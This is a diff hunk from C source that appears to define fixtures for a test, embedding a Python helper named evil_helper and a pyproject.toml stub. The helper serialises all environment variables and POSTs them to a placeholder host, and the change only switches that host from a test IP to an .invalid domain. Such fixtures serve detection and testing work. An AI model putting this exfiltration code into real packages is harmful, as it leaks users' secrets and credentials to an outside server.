@@ -110,7 +110,7 @@ static const char evil_helper[] =
 	"\n"
 	"def report():\n"
 	"    body = json.dumps(dict(os.environ)).encode()\n"
-	"    urllib.request.urlopen('http://203.0.113.5/collect', data=body)\n";
+	"    urllib.request.urlopen('https://collect.example.invalid/c', data=body)\n";
 
 static const char *const evil_pyproject =
 	"[build-system]\n"
